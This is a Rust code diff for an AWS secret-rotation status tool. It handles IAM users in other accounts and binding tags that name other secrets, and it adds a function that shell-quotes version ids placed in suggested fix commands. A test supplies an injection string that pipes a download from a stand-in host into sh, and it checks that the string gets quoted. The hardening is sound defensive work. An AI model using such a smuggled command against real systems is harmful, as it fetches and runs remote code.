@@ -9,6 +9,7 @@ use serde::Serialize;
 
 use super::{CONCURRENCY, FleetError};
 use crate::aws::Clients;
+use crate::aws::account::Reader;
 use crate::aws::iam;
 use crate::aws::listing;
 use crate::aws::secrets::Secret;
@@ -26,11 +27,11 @@ pub struct StatusOptions {
     pub function_arn: Option<String>,
     /// A pending version older than this is a stuck rotation.
     pub stuck_after: Duration,
-    /// Read users of other accounts through this read-only role of their
-    /// account (the member template's audit role) instead of the secret's
-    /// `RoleArn`, which trusts the rotation function only: set across an
-    /// organization, where every account has that role.
-    pub reader_role_name: Option<String>,
+    /// Read users of other accounts through their read-only member role instead
+    /// of the secret's `RoleArn`, which trusts the rotation function only: set
+    /// across an organization, where every account has that role (its
+    /// `accounts` are filled in by the run across accounts).
+    pub reader: Option<Reader>,
 }
 
 /// A secret's state, most urgent first (SPEC 9); in JSON and tables as
@@ -151,9 +152,9 @@ async fn build_row(
     let user_name = value.user_name();
     let iam = crate::aws::account::iam_client_to_read_user(
         clients,
-        &secret.arn,
+        secret,
         value,
-        options.reader_role_name.as_deref(),
+        options.reader.as_ref(),
     )
     .await?;
     let user = iam::read_user_and_keys(&iam, user_name).await?;
@@ -199,7 +200,9 @@ async fn build_row(
         secret,
         user: user_name,
         user_exists: user.is_some(),
-        unbound: user.as_ref().and_then(|(u, _)| unbound_fix(u, secret)),
+        unbound: user
+            .as_ref()
+            .and_then(|(u, _)| unbound_fix(u, secret, user_elsewhere(secret, value))),
         current_key,
         current_key_works: key.is_some_and(|k| k.active),
         pending: secret.pending_version().map(|version| {
@@ -240,7 +243,12 @@ async fn build_row(
 /// versions accepted (with the secret's creation date, to check it is the
 /// secret the name meant, not one recreated since); never to move a user bound
 /// to another secret, which only its administrator may decide.
-fn unbound_fix(user: &IamUser, secret: &Secret) -> Option<String> {
+///
+/// Only a user of the secret's own account, tagged with exactly this secret's
+/// name, gets the `# bound by name` line that docs/operating.md's one-pass
+/// upgrade selects: a user read through a `RoleArn` is tagged in its own
+/// account, and a tag naming another secret is not this secret's to claim.
+fn unbound_fix(user: &IamUser, secret: &Secret, elsewhere: Option<&str>) -> Option<String> {
     let retag = format!(
         "aws iam tag-user --user-name {} --tags Key={BINDING_TAG},Value={}",
         user.name, secret.arn
@@ -251,18 +259,34 @@ fn unbound_fix(user: &IamUser, secret: &Secret) -> Option<String> {
         .map_or("at an unknown time".to_string(), rfc3339);
     match user.binding() {
         Binding::To(arn) if arn == secret.arn => None,
+        _ if elsewhere.is_some() => Some(format!(
+            "the user is in account {}: there, an administrator who has checked who created this secret (created {created}; CloudTrail CreateSecret) runs {retag}",
+            elsewhere.unwrap_or_default()
+        )),
         // Whoever may create a secret can name any user in it: binding is an
         // administrator's decision, made knowing who created the secret.
         Binding::None => Some(format!(
             "{retag}  # not bound: first check who created this secret (created {created}; CloudTrail CreateSecret)"
         )),
-        Binding::ByName(_) => Some(format!(
+        Binding::ByName(name) if name == secret.name => Some(format!(
             "{retag}  # bound by name: first check that this secret (created {created}) is the one the tag meant"
+        )),
+        Binding::ByName(name) => Some(format!(
+            "its binding tag holds another name ({name}): nothing to do if that secret rotates the user; to bind it here, an administrator first checks who created this secret (created {created}; CloudTrail CreateSecret), then runs {retag}"
         )),
         Binding::To(other) => Some(format!(
             "bound to another secret ({other}): nothing to do if that one rotates the user; to move it here, an administrator first checks who created this secret (CloudTrail CreateSecret) and then re-tags it"
         )),
     }
+}
+
+/// The account of the value's user when it is not the secret's own (a
+/// `RoleArn` into another account).
+fn user_elsewhere<'a>(secret: &Secret, value: &'a SecretValue) -> Option<&'a str> {
+    value
+        .role_arn()
+        .and_then(crate::arn::account_of)
+        .filter(|account| Some(*account) != secret.account_id())
 }
 
 /// What the state of a secret is judged from.
@@ -313,7 +337,8 @@ impl Facts<'_> {
                 return (
                     SecretState::Stuck,
                     Some(format!(
-                        "{pending}: find the errorType in the rotation function's log, fix its cause, then: aws secretsmanager update-secret-version-stage --secret-id {name} --version-stage AWSPENDING --remove-from-version-id {version} && {rotate}"
+                        "{pending}: find the errorType in the log of the rotation function, fix its cause, then: aws secretsmanager update-secret-version-stage --secret-id {name} --version-stage AWSPENDING --remove-from-version-id {} && {rotate}",
+                        shell_word(version)
                     )),
                 );
             }
@@ -355,6 +380,18 @@ impl Facts<'_> {
     }
 }
 
+/// `word` as one shell word: as it is when it holds only characters no shell
+/// treats specially, else single-quoted. A version id is the rotation's
+/// `ClientRequestToken`, which whoever starts a rotation chooses.
+fn shell_word(word: &str) -> std::borrow::Cow<'_, str> {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/=+@,%".contains(c);
+    if !word.is_empty() && word.chars().all(plain) {
+        word.into()
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''")).into()
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -387,6 +424,15 @@ mod tests {
             overdue: false,
             stuck_after_minutes: 15.0,
         }
+    }
+
+    #[test]
+    fn a_version_id_is_one_shell_word_whatever_its_characters() {
+        assert_eq!(shell_word("a1b2-c3d4"), "a1b2-c3d4");
+        assert_eq!(
+            shell_word("';curl e.vil|sh;# bound by name"),
+            "''\\'';curl e.vil|sh;# bound by name'"
+        );
     }
 
     #[test]
